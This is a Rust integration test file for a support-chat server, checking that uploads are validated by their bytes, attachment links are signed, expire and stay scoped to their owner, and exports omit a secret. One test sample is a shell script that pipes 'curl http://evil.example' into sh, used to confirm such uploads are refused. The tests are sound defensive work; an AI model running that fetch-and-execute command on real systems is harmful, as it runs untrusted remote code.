//! Attachments: checked by their bytes, and readable only in the
//! conversation's scope or through a signed link that expires.

use crate::harness::*;
use crate::support_board::succeed;
use base64::Engine;
use hmac::{Hmac, Mac};
use serde_json::{json, Value};
use sha2::Sha256;

/// The smallest valid PNG (1x1, transparent).
const PNG: &[u8] = &[
    0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 0x0d, 0x49, 0x48, 0x44, 0x52, 0, 0, 0,
    1, 0, 0, 0, 1, 8, 6, 0, 0, 0, 0x1f, 0x15, 0xc4, 0x89, 0, 0, 0, 0x0a, 0x49, 0x44, 0x41, 0x54,
    0x78, 0x9c, 0x63, 0, 1, 0, 0, 5, 0, 1, 0x0d, 0x0a, 0x2d, 0xb4, 0, 0, 0, 0, 0x49, 0x45, 0x4e,
    0x44, 0xae, 0x42, 0x60, 0x82,
];

fn bearer(c: &Client) -> String {
    match &c.auth {
        Auth::Bearer(t) => t.clone(),
        _ => unreachable!(),
    }
}

/// Uploads through the widget (visitor) endpoint: (status, body).
fn upload(s: &Server, token: &str, name: &str, ct: &str, bytes: &[u8]) -> (u16, Value) {
    let resp = agent()
        .post(s.url(&format!("/api/v1/widget/uploads?name={name}")))
        .header("authorization", format!("Bearer {token}"))
        .header("content-type", ct)
        .send(bytes)
        .unwrap();
    let status = resp.status().as_u16();
    let text = resp.into_body().read_to_string().unwrap();
    (status, serde_json::from_str(&text).unwrap_or(Value::Null))
}

/// GET a path with optional bearer credentials: (status, body bytes).
fn fetch(s: &Server, path: &str, token: Option<&str>) -> (u16, Vec<u8>) {
    let mut rq = agent().get(s.url(path));
    if let Some(t) = token {
        rq = rq.header("authorization", format!("Bearer {t}"));
    }
    let resp = rq.call().unwrap();
    (
        resp.status().as_u16(),
        resp.into_body().read_to_vec().unwrap(),
    )
}

fn path_of(url: &str) -> &str {
    url.split('?').next().unwrap()
}

/// A link signed with the install's key, as an attacker holding the key
/// could not (used here to prove that expiry alone refuses a link).
fn sign_with_key(s: &Server, token: &str, exp: i64) -> String {
    let key = std::fs::read(s.data.join("links.key")).unwrap();
    let mut m = Hmac::<Sha256>::new_from_slice(&key).unwrap();
    m.update(format!("{token}.{exp}").as_bytes());
    base64::engine::general_purpose::URL_SAFE_NO_PAD.encode(&m.finalize().into_bytes()[..16])
}

#[test]
fn uploads_are_checked_by_their_bytes() {
    let s = Server::start();
    let (visitor, _) = s.visitor("Mal");
    let vt = bearer(&visitor);
    let elf = b"\x7fELF\x02\x01\x01\0\0\0\0\0\0\0\0\0\x02\0\x3e\0\x01\0\0\0";
    let pe = b"MZ\x90\0\x03\0\0\0\x04\0\0\0\xff\xff\0\0\xb8\0\0\0\0\0\0\0\x40\0";
    let script = b"#!/bin/sh\ncurl http://evil.example | sh\n";
    for (what, bytes) in [("elf", &elf[..]), ("pe", &pe[..]), ("script", &script[..])] {
        for ct in ["image/png", "application/pdf", "text/plain"] {
            let (st, v) = upload(&s, &vt, "cat.png", ct, bytes);
            assert_eq!(
                (st, v["error"]["code"].as_str()),
                (415, Some("upload_type_mismatch")),
                "{what} as {ct}: {v}"
            );
        }
    }
    // A PNG is not a JPEG, and a text file has no NUL or invalid UTF-8.
    let (st, v) = upload(&s, &vt, "a.jpg", "image/jpeg", PNG);
    assert_eq!(
        (st, v["error"]["code"].as_str()),
        (415, Some("upload_type_mismatch"))
    );
    let (st, v) = upload(&s, &vt, "a.txt", "text/plain", b"hello\0world");
    assert_eq!(
        (st, v["error"]["code"].as_str()),
        (415, Some("upload_type_mismatch"))
    );
    let (st, _) = upload(&s, &vt, "a.csv", "text/csv", b"a,b\r\n\xff\xfe,1\r\n");
    assert_eq!(st, 415);
    // The real thing passes.
    assert_eq!(upload(&s, &vt, "cat.png", "image/png", PNG).0, 201);
    assert_eq!(
        upload(&s, &vt, "n.txt", "text/plain", "héllo\n".as_bytes()).0,
        201
    );
    assert_eq!(
        upload(&s, &vt, "d.pdf", "application/pdf", b"%PDF-1.4\n%").0,
        201
    );
}

#[test]
fn attachment_links_are_signed_expire_and_stay_in_scope() {
    let s = Server::start();
    let admin = s.client(&s.admin_token());
    let (visitor, _) = s.visitor("Uma");
    let vt = bearer(&visitor);
    let cid = visitor.post("/api/v1/widget/conversations", json!({}))["conversation"]["id"]
        .as_i64()
        .unwrap();
    let (st, up) = upload(&s, &vt, "photo.png", "image/png", PNG);
    assert_eq!(st, 201, "{up}");
    let a = up["attachment"].clone();
    let canonical = path_of(a["url"].as_str().unwrap()).to_string();
    let token = canonical.split('/').nth(2).unwrap().to_string();
    visitor.post(
        &format!("/api/v1/widget/conversations/{cid}/messages"),
        json!({"attachments": [a]}),
    );

    // The bare URL is no capability any more: refused without credentials,
    // and the same answer for a file that does not exist.
    let (st, body) = fetch(&s, &canonical, None);
    assert_eq!(st, 403, "{}", String::from_utf8_lossy(&body));
    assert!(String::from_utf8_lossy(&body).contains("invalid_link"));
    assert_eq!(fetch(&s, "/uploads/doesnotexist/x.png", None).0, 403);

    // Every read hands out a signed link that works without credentials:
    // REST history, the widget's conversation, realtime, Support Board.
    let hist = admin.get(&format!("/api/v1/conversations/{cid}/messages"));
    let staff_url = hist["messages"][0]["attachments"][0]["url"]
        .as_str()
        .unwrap()
        .to_string();
    let wconv = visitor.get(&format!("/api/v1/widget/conversations/{cid}"));
    let widget_url = wconv["messages"][0]["attachments"][0]["url"]
        .as_str()
        .unwrap()
        .to_string();
    let events = visitor.get("/api/v1/events?after=0");
    let event_url = events["events"]
        .as_array()
        .unwrap()
        .iter()
        .find_map(|e| e["data"]["message"]["attachments"][0]["url"].as_str())
        .expect("the message event")
        .to_string();
    let sb = succeed(
        &s,
        &bearer(&admin),
        &[
            ("function", "get-conversation"),
            ("conversation_id", &cid.to_string()),
        ],
    );
    let sb_list: Value =
        serde_json::from_str(sb["messages"][0]["attachments"].as_str().unwrap()).unwrap();
    let sb_url = sb_list[0][1].as_str().unwrap().to_string();
    for url in [&staff_url, &widget_url, &event_url, &sb_url] {
        assert!(url.starts_with(&canonical) && url.contains("sig="), "{url}");
        assert_eq!(fetch(&s, url, None), (200, PNG.to_vec()), "{url}");
    }
    // What is stored stays canonical: the event ring and the database.
    assert_eq!(
        admin.get(&format!("/api/v1/conversations/{cid}/messages"))["messages"][0]["attachments"]
            [0]["url"]
            .as_str()
            .map(path_of),
        Some(canonical.as_str())
    );

    // Tampered signature or expiry: refused.
    let tampered_sig = format!("{}A", &staff_url[..staff_url.len() - 1]);
    let tampered_sig = if tampered_sig == staff_url {
        format!("{}B", &staff_url[..staff_url.len() - 1])
    } else {
        tampered_sig
    };
    assert_eq!(fetch(&s, &tampered_sig, None).0, 403);
    let sig = staff_url.rsplit("sig=").next().unwrap();
    let far = format!("{canonical}?exp=4102444800&sig={sig}");
    assert_eq!(fetch(&s, &far, None).0, 403);
    // A correctly signed link that has expired: refused.
    let past = std::time::SystemTime::now()
        .duration_since(std::time::UNIX_EPOCH)
        .unwrap()
        .as_secs() as i64
        - 10;
    let expired = format!(
        "{canonical}?exp={past}&sig={}",
        sign_with_key(&s, &token, past)
    );
    assert_eq!(fetch(&s, &expired, None).0, 403);
    let future = past + 3600;
    let fresh = format!(
        "{canonical}?exp={future}&sig={}",
        sign_with_key(&s, &token, future)
    );
    assert_eq!(fetch(&s, &fresh, None).0, 200, "the key check itself works");

    // Credentials in scope read the bare URL: staff, and the owner.
    assert_eq!(fetch(&s, &canonical, Some(&bearer(&admin))).0, 200);
    assert_eq!(fetch(&s, &canonical, Some(&vt)).0, 200);
    // Another visitor does not: the same answer as a missing file.
    let (other, _) = s.visitor("Eve");
    assert_eq!(fetch(&s, &canonical, Some(&bearer(&other))).0, 404);
}

/// Opens a conversation for `visitor`, uploads a file through the widget and
/// posts it there as an attachment: (conversation id, the upload's answer).
fn post_attachment(
    s: &Server,
    visitor: &Client,
    name: &str,
    ct: &str,
    bytes: &[u8],
) -> (i64, Value) {
    let cid = visitor.post("/api/v1/widget/conversations", json!({}))["conversation"]["id"]
        .as_i64()
        .unwrap();
    let (_, up) = upload(s, &bearer(visitor), name, ct, bytes);
    visitor.post(
        &format!("/api/v1/widget/conversations/{cid}/messages"),
        json!({"attachments": [up["attachment"]]}),
    );
    (cid, up)
}

/// Sends a request that must be refused: 400 with this error code.
fn refused(c: &Client, method: &str, path: &str, body: Value, code: &str) {
    let (st, v) = c.call(method, path, Some(body));
    assert_eq!(
        (st, v["error"]["code"].as_str()),
        (400, Some(code)),
        "{method} {path}: {v}"
    );
}

#[test]
fn a_visitor_cannot_get_a_link_to_a_file_not_theirs() {
    let s = Server::start();
    let (alice, _) = s.visitor("Alice");
    let (cid, up) = post_attachment(
        &s,
        &alice,
        "secret.pdf",
        "application/pdf",
        b"%PDF-1.4 secret",
    );
    let leaked = up["attachment"]["url"].as_str().unwrap().to_string();

    // Eve holds a (leaked) link and posts it in her own conversation, hoping
    // to have it signed afresh whenever her messages are read: refused.
    let (eve, _) = s.visitor("Eve");
    let eid = eve.post("/api/v1/widget/conversations", json!({}))["conversation"]["id"]
        .as_i64()
        .unwrap();
    for url in [leaked.clone(), path_of(&leaked).to_string()] {
        refused(
            &eve,
            "POST",
            &format!("/api/v1/widget/conversations/{eid}/messages"),
            json!({"attachments": [{"name": "x.pdf", "url": url}]}),
            "invalid_attachment",
        );
    }
    // Nor through a new conversation's first message.
    let (st, _) = eve.call(
        "POST",
        "/api/v1/widget/conversations",
        Some(json!({"message": {"attachments": [{"name": "x", "url": path_of(&leaked)}]}})),
    );
    assert_eq!(st, 400);
    // Alice's conversation is not hers to read either.
    let (st, _) = eve.call("GET", &format!("/api/v1/widget/conversations/{cid}"), None);
    assert_eq!(st, 404);
    let events = eve.get("/api/v1/events?after=0");
    assert!(!events.to_string().contains(path_of(&leaked)), "{events}");
    // Her own uploads she may attach, of course.
    let (_, mine) = upload(&s, &bearer(&eve), "mine.png", "image/png", PNG);
    eve.post(
        &format!("/api/v1/widget/conversations/{eid}/messages"),
        json!({"attachments": [mine["attachment"]]}),
    );

    // An avatar is signed for its readers too: not someone else's file,
    // whichever way a visitor describes themselves.
    for (path, body) in [
        ("/api/v1/widget/me", json!({"avatar": leaked})),
        (
            "/api/v1/widget/identify",
            json!({"id": "eve-1", "avatar": path_of(&leaked)}),
        ),
    ] {
        let method = if path.ends_with("/me") {
            "PATCH"
        } else {
            "POST"
        };
        refused(&eve, method, path, body, "invalid_avatar");
    }
    refused(
        &s.anon(),
        "POST",
        "/api/v1/widget/session",
        json!({"avatar": path_of(&leaked)}),
        "invalid_avatar",
    );
    let (st, v) = eve.call(
        "PATCH",
        "/api/v1/widget/me",
        Some(json!({"avatar": mine["attachment"]["url"]})),
    );
    assert_eq!(st, 200, "{v}");
}

#[test]
fn files_made_for_admins_come_as_signed_links() {
    let s = Server::start();
    let admin = s.admin_token();
    // Support Board's exports (users CSV, settings) and transcripts.
    s.visitor("Uma");
    for pairs in [
        vec![("function", "csv-users")],
        vec![("function", "export-settings")],
    ] {
        let v = succeed(&s, &admin, &pairs);
        let url = v.as_str().unwrap_or_else(|| panic!("{pairs:?}: {v}"));
        let path = &url[url.find("/uploads/").unwrap()..];
        assert!(path.contains("sig="), "{path}");
        assert_eq!(fetch(&s, path, None).0, 200, "{pairs:?}");
        assert_eq!(fetch(&s, path_of(path), None).0, 403, "{pairs:?}");
    }
}

/// Collects webhook bodies on loopback: 500 to the first, 200 after.
fn receiver() -> (u16, std::sync::mpsc::Receiver<String>) {
    let server = tiny_http::Server::http("127.0.0.1:0").unwrap();
    let port = server.server_addr().to_ip().unwrap().port();
    let (tx, rx) = std::sync::mpsc::channel();
    std::thread::spawn(move || {
        for (i, mut rq) in server.incoming_requests().enumerate() {
            let mut body = String::new();
            let _ = rq.as_reader().read_to_string(&mut body);
            let _ = tx.send(body);
            let status = if i == 0 { 500 } else { 200 };
            let _ = rq.respond(tiny_http::Response::empty(status));
        }
    });
    (port, rx)
}

#[test]
fn webhooks_carry_week_long_links_identical_across_retries() {
    let s = Server::start_with(&[
        ("FRONTPORCH_ALLOW_PRIVATE_WEBHOOKS", "1"),
        ("FRONTPORCH_RETRY_BASE_MS", "200"),
    ]);
    let admin = s.client(&s.admin_token());
    let (port, rx) = receiver();
    let (st, w) = admin.call(
        "POST",
        "/api/v1/webhooks",
        Some(
            json!({"url": format!("http://127.0.0.1:{port}/hook"), "events": ["message.created"]}),
        ),
    );
    assert_eq!(st, 201, "{w}");
    let (visitor, _) = s.visitor("Hook");
    post_attachment(&s, &visitor, "cat.png", "image/png", PNG);
    let wait = std::time::Duration::from_secs(60);
    let (first, retry) = (
        rx.recv_timeout(wait).unwrap(),
        rx.recv_timeout(wait).unwrap(),
    );
    assert_eq!(first, retry, "a retry sends the same bytes");
    let v: Value = serde_json::from_str(&first).unwrap();
    let url = v["data"]["data"]["message"]["attachments"][0]["url"]
        .as_str()
        .unwrap();
    let exp: i64 = url
        .split("exp=")
        .nth(1)
        .unwrap()
        .split('&')
        .next()
        .unwrap()
        .parse()
        .unwrap();
    let now = std::time::SystemTime::now()
        .duration_since(std::time::UNIX_EPOCH)
        .unwrap()
        .as_secs() as i64;
    assert!(
        exp > now + 6 * 86400 && exp <= now + 7 * 86400 + 60,
        "{url}"
    );
    assert_eq!(fetch(&s, url, None), (200, PNG.to_vec()));
}

fn now_secs() -> i64 {
    std::time::SystemTime::now()
        .duration_since(std::time::UNIX_EPOCH)
        .unwrap()
        .as_secs() as i64
}

fn exp_of(url: &str) -> i64 {
    let q = url.split_once("exp=").expect(url).1;
    q.split('&').next().unwrap().parse().unwrap()
}

#[test]
fn frame_links_last_a_day_and_repeat_within_six_hours() {
    let s = Server::start();
    let (visitor, _) = s.visitor("Long");
    let (cid, _) = post_attachment(&s, &visitor, "cat.png", "image/png", PNG);
    let read = || {
        visitor.get(&format!("/api/v1/widget/conversations/{cid}"))["messages"][0]["attachments"][0]
            ["url"]
            .as_str()
            .unwrap()
            .to_string()
    };
    // Two reads a moment apart (unless a six-hour boundary falls between).
    let (first, second) = (read(), read());
    let exp = exp_of(&first);
    assert!(first == second || exp_of(&second) > exp, "{first} {second}");
    let now = now_secs();
    assert_eq!(exp % (6 * 3600), 0, "{first}");
    assert!(exp >= now + 24 * 3600 - 5, "lives a day: {exp} vs {now}");
    assert!(exp <= now + 30 * 3600 + 5, "{exp} vs {now}");
    assert_eq!(fetch(&s, &first, None), (200, PNG.to_vec()));
}

#[test]
fn uploaded_logos_and_avatars_reach_visitors_signed() {
    let s = Server::start();
    let token = s.admin_token();
    let admin = s.client(&token);
    let resp = agent()
        .post(s.url("/api/v1/uploads?name=logo.png"))
        .header("authorization", format!("Bearer {token}"))
        .header("content-type", "image/png")
        .send(PNG)
        .unwrap();
    let up: Value = serde_json::from_str(&resp.into_body().read_to_string().unwrap()).unwrap();
    let canonical = path_of(up["attachment"]["url"].as_str().unwrap()).to_string();
    let (st, v) = admin.call(
        "PUT",
        "/api/v1/settings",
        Some(json!({"widget.logo": canonical})),
    );
    assert_eq!(st, 200, "{v}");
    let me = admin.get("/api/v1/me")["user"]["id"].as_i64().unwrap();
    let (st, v) = admin.call(
        "PATCH",
        &format!("/api/v1/users/{me}"),
        Some(json!({"avatar": canonical})),
    );
    assert_eq!(st, 200, "{v}");

    // The logo, as any visitor's frame reads it.
    let logo = s.anon().get("/api/v1/widget/config")["config"]["logo"]
        .as_str()
        .unwrap()
        .to_string();
    // The agent's avatar on their message, as the visitor reads it.
    let (visitor, _) = s.visitor("Val");
    let cid = visitor.post(
        "/api/v1/widget/conversations",
        json!({"message": {"body": "hi"}}),
    )["conversation"]["id"]
        .as_i64()
        .unwrap();
    admin.post(
        &format!("/api/v1/conversations/{cid}/messages"),
        json!({"body": "hello"}),
    );
    let conv = visitor.get(&format!("/api/v1/widget/conversations/{cid}"));
    let avatar = conv["messages"]
        .as_array()
        .unwrap()
        .iter()
        .find_map(|m| m["sender"]["avatar"].as_str().filter(|a| !a.is_empty()))
        .unwrap_or_else(|| panic!("{conv}"))
        .to_string();
    for url in [&logo, &avatar] {
        assert!(url.starts_with(&canonical) && url.contains("sig="), "{url}");
        assert_eq!(fetch(&s, url, None), (200, PNG.to_vec()), "{url}");
    }
    // Stored canonical.
    assert_eq!(
        admin.get(&format!("/api/v1/users/{me}"))["user"]["avatar"],
        canonical.as_str()
    );
}

#[test]
fn transcript_mail_in_the_outbox_keeps_links_canonical() {
    let s = Server::start();
    let (visitor, _) = s.visitor("Tara");
    let (cid, up) = post_attachment(&s, &visitor, "cat.png", "image/png", PNG);
    let canonical = path_of(up["attachment"]["url"].as_str().unwrap()).to_string();
    let (st, v) = visitor.call(
        "POST",
        &format!("/api/v1/widget/conversations/{cid}/transcript"),
        Some(json!({"email": "tara@example.com"})),
    );
    assert_eq!(st, 202, "{v}");
    let db = rusqlite::Connection::open(s.data.join("frontporch.db")).unwrap();
    let payload: String = db
        .query_row(
            "SELECT payload FROM outbox WHERE channel = 'email'",
            [],
            |r| r.get(0),
        )
        .unwrap();
    let text = serde_json::from_str::<Value>(&payload).unwrap()["text"]
        .as_str()
        .unwrap()
        .to_string();
    assert!(
        text.contains(&format!("attachment: {canonical}\n")),
        "{text}"
    );
    assert!(!text.contains("sig="), "{text}");
}

#[test]
fn settings_exports_leave_the_identity_secret_out() {
    let s = Server::start();
    let admin = s.admin_token();
    let secret = s.client(&admin).get("/api/v1/settings")["settings"]["identity.secret"]
        .as_str()
        .unwrap()
        .to_string();
    let url = succeed(&s, &admin, &[("function", "export-settings")])
        .as_str()
        .unwrap()
        .to_string();
    let path = &url[url.find("/uploads/").unwrap()..];
    // Any staff credential reads an upload: the file holds no secret.
    let (st, body) = fetch(&s, path, None);
    assert_eq!(st, 200);
    let body = String::from_utf8(body).unwrap();
    assert!(!body.contains(&secret), "{body}");
    assert!(!body.contains("identity.secret"), "{body}");
    // Importing it keeps the install's secret.
    succeed(
        &s,
        &admin,
        &[("function", "import-settings"), ("file_url", &url)],
    );
    assert_eq!(
        s.client(&admin).get("/api/v1/settings")["settings"]["identity.secret"],
        secret.as_str()
    );
}
